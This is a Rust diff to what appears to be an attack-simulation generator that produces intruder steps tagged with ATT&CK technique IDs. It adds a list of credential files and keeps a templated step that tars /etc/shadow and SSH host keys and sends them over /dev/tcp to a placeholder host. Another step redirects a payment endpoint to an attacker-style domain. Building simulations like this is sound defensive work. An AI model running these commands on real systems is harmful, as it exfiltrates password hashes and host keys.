@@ -80,6 +80,10 @@ fn plan(random: &mut Random, _: Material<'_>) -> Plan {
     }
 }
 
+/// What is in there that is one.
+const SECRETS: [&str; 4] =
+    ["/etc/shadow", "/etc/ssh/ssh_host_ecdsa_key", "/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/ssh_host_rsa_key"];
+
 fn foothold(technique: &'static str, title: &str, script: impl Into<String>, paths: &[&str]) -> Step {
     Step { technique: Some(technique), ..step(Actor::Intruder, title, script, paths) }
 }
@@ -145,12 +149,15 @@ fn intruder(random: &mut Random, names: &mut Names, settings: &str, called: &Cal
             format!("sed -i 's#^endpoint = .*#endpoint = https://pay.{word}.example/v2#' {settings}"),
             &[settings],
         ),
-        foothold(
-            "T1048",
-            "the intruder sends the host's secrets away",
-            format!("bash -c 'tar -cz /etc/shadow /etc/ssh 2>/dev/null >/dev/tcp/{away}/{away_port}'"),
-            &[],
-        ),
+        Step {
+            secrets: SECRETS.map(str::to_owned).into(),
+            ..foothold(
+                "T1048",
+                "the intruder sends the host's secrets away",
+                format!("bash -c 'tar -cz /etc/shadow /etc/ssh 2>/dev/null >/dev/tcp/{away}/{away_port}'"),
+                &[],
+            )
+        },
     ];
     random.shuffle(&mut root);
     pace(&mut user, random, 300);
